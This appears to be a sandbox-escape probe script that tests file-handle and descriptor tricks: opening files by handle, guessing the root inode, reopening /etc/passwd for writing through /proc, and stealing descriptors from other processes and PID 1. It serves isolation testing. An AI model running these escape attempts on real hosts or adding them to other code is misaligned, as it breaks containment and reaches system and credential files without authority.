"""Opens files by handle, steals descriptors, re-opens read-only ones for writing."""
import ctypes
import glob
import os

from escapekit import Probe, syscall

probe = Probe("descriptor_smuggling")


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def handle_of(path):
    handle, mount = Handle(128), ctypes.c_int()
    syscall("name_to_handle_at", -100, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
    return handle


def by_guess():
    """The classic: inode 2 is the root of many a file system."""
    handle = Handle(8, 1)
    handle.data[0] = 2
    fd = os.open("/etc/hostname" if os.path.exists("/etc/hostname") else "/etc/passwd", os.O_RDONLY)
    return f"descriptor {syscall('open_by_handle_at', fd, ctypes.byref(handle), 0)}"


def by_handle():
    handle = handle_of("/etc/passwd")
    fd = os.open("/etc", os.O_RDONLY)
    return f"descriptor {syscall('open_by_handle_at', fd, ctypes.byref(handle), 0)}"


def reopen():
    fd = os.open("/etc/passwd", os.O_RDONLY)
    return f"descriptor {os.open(f'/proc/self/fd/{fd}', os.O_WRONLY)}"


def others():
    found = []
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        pid = int(link.split("/")[2])
        if pid == os.getpid():
            continue
        try:
            os.open(link, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        found.append(link)
    return found or None


probe.attempt("name_to_handle", lambda: handle_of("/etc/passwd").kind)
probe.attempt("open_by_handle", by_handle)
probe.attempt("open_by_guess", by_guess)
probe.attempt("reopen_for_writing", reopen)
probe.attempt("descriptors_of_others", others)
for pid in (1, os.getppid()):
    if pid > 0:
        probe.attempt(f"steal_from_{pid}", lambda: syscall("pidfd_getfd", syscall("pidfd_open", pid, 0), 0, 0) >= 0)
probe.done()
